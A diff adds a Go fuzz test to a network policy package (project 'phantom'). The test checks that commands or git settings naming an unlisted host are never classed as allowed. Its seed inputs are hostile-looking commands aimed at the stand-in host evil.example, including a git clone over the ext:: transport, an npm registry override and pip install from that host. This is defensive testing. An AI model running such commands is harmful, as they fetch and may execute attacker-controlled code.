@@ -1,6 +1,7 @@
 package policy
 
 import (
+	"strings"
 	"testing"
 
 	"phantom/internal/phantom"
@@ -147,4 +148,30 @@ func TestNetworkFollowsTheOwner(t *testing.T) {
 	if got := (&Policy{}).Network("ls", "/"); got.Kind != ReachUnknown || got.Verdict.Decision == phantom.Allow {
 		t.Errorf("the zero policy says %v with %v, want unknown and a refusal", got.Kind, got.Verdict.Decision)
 	}
+}
+
+// FuzzNetwork reads lines and settings of git as an attacker may write them:
+// what names a host that is not listed must never count as listed.
+func FuzzNetwork(f *testing.F) {
+	f.Add("git pull", "[remote \"origin\"]\n\turl = https://evil.example/a\n")
+	f.Add("git fetch origin", "[include]\n\tpath = evil.example\n")
+	f.Add("git clone https://evil.example/a", "")
+	f.Add("git clone ext::evil.example", "[core]\n")
+	f.Add("npm ci --registry evil.example", "")
+	f.Add("pip install -r evil.example", "x")
+	f.Fuzz(func(t *testing.T, line, config string) {
+		cfg := testConfig()
+		cfg.Files = tree{workspace + "/.git/HEAD": "ref: x", workspace + "/.git/config": config}
+		p, err := New(cfg)
+		if err != nil {
+			t.Fatal(err)
+		}
+		got := p.Network(line, workspace)
+		if got.Kind == ReachListed && strings.Contains(line, "://evil.example") {
+			t.Errorf("Network(%q) = listed", line)
+		}
+		if free := got.Kind == ReachNone || got.Kind == ReachListed; free != (got.Verdict.Decision == phantom.Allow) {
+			t.Errorf("Network(%q) = %v with the verdict %v", line, got.Kind, got.Verdict.Decision)
+		}
+	})
 }
